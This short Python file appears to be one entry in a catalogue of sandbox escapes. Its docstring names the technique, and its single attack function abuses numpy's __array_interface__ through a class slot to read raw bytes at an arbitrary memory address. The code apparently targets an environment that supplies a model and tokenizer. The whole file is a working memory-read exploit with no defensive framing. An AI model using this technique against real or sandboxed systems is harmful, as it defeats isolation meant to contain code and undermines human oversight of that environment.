"""Class: class machinery. Source: own find. Escape: a slot named __array_interface__."""

import numpy as np


class A:
    __slots__ = ("__array_interface__",)


def attack(model, tokenizer, address):
    a = A()
    a.__array_interface__ = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    return np.array(a).tobytes()
